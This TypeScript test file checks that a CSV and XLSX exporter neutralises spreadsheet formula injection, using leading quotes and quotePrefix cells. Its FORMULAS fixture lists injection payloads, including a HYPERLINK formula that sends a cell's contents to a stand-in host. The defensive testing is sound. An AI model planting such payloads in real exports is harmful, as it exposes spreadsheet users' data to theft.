/**
 * Text that a spreadsheet would take for a formula (OWASP's CSV injection: a name starting with
 * = + - @, a tab or a carriage return) is written as text: in CSV with a leading single quote, in
 * XLSX as a text cell whose style keeps it text when edited (quotePrefix), its value unchanged so
 * the catalog template reads back the same. No I/O.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { catalogSheet, readCatalogSheet } from '#domain/catalog-sheet';
import { seasonFigures } from '#domain/season-figures';
import { seasonReportCsv } from '#domain/season-report';
import { xlsxWorkbook } from '#domain/xlsx';
import { readFirstSheet } from '#domain/xlsx-read';
import type { County, Society } from '#schemas/catalog';

const FORMULAS = [
  '=HYPERLINK("http://example.test/?"&A1,"点击")',
  '+1+2',
  '-3+4',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const COUNTIES = FORMULAS.map((_, i) => `c${i}`);
const report = seasonFigures({
  season: '2026-Q4',
  visits: COUNTIES.map((countyId) => ({ countyId, townId: 't', questions: [] })),
  offers: [],
  reports: [],
  submitted: [],
});
const names = {
  county: (id: string) => FORMULAS[Number(id.slice(1))] ?? id,
  town: () => '-',
};

describe('text that looks like a formula', () => {
  it('is written in the CSV report with a leading single quote, and numbers are not', () => {
    const rows = parse(seasonReportCsv(report, names), { bom: true }) as string[][];
    const counties = rows.slice(1, -1).map((row) => row[0]);
    expect(counties.sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    // The town "-" too; the figures stay numbers.
    expect(rows[1]![1]).toBe("'-");
    expect(rows[1]!.slice(2).every((cell) => /^\d+$/.test(cell))).toBe(true);
  });

  it('is an XLSX text cell with quotePrefix, its value unchanged', async () => {
    const bytes = xlsxWorkbook([
      { name: 'a', rows: [['名称', '数'], ...FORMULAS.map((f) => [f, -1]), ['普通', 2]] },
    ]);
    const sheetXml = new TextDecoder().decode(unzipSync(bytes)['xl/worksheets/sheet1.xml']);
    const stylesXml = new TextDecoder().decode(unzipSync(bytes)['xl/styles.xml']);
    const xfs = [...stylesXml.slice(stylesXml.indexOf('<cellXfs')).matchAll(/<xf\b[^>]*>/g)].map((m) => m[0]);
    const styleOf = (ref: string) =>
      Number(new RegExp(`<c r="${ref}"(?: s="(\\d+)")?`).exec(sheetXml)?.[1] ?? 0);
    for (let r = 2; r <= FORMULAS.length + 1; r++) expect(xfs[styleOf(`A${r}`)]).toContain('quotePrefix="1"');
    expect(xfs[styleOf(`A${FORMULAS.length + 2}`)] ?? '').not.toContain('quotePrefix');
    expect(xfs[styleOf('B2')] ?? '').not.toContain('quotePrefix');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(FORMULAS.map((_, i) => sheet.getCell(`A${i + 2}`).value)).toEqual(FORMULAS);
    expect(sheet.getCell('A2').type).toBe(ExcelJS.ValueType.String);
  });

  it('reads back from the catalog template as it was (a phone starting with +)', () => {
    const society: Society = {
      id: 'dianxue',
      name: { zh: '-电学会', en: '@Electric Society' },
      themes: ['industry'],
      fields: ['=电力'],
      capacityPerSeason: 1,
      contact: { phone: '+86 571 8888 8888' },
    };
    const rows = readFirstSheet(
      xlsxWorkbook([catalogSheet('societies', { societies: [society], counties: [] })]),
    );
    const read = readCatalogSheet(rows, { societies: new Map(), counties: new Map<string, County>() });
    expect(read.issues).toEqual([]);
    expect(read.records.map((r) => r.record)).toEqual([society]);
  });
});
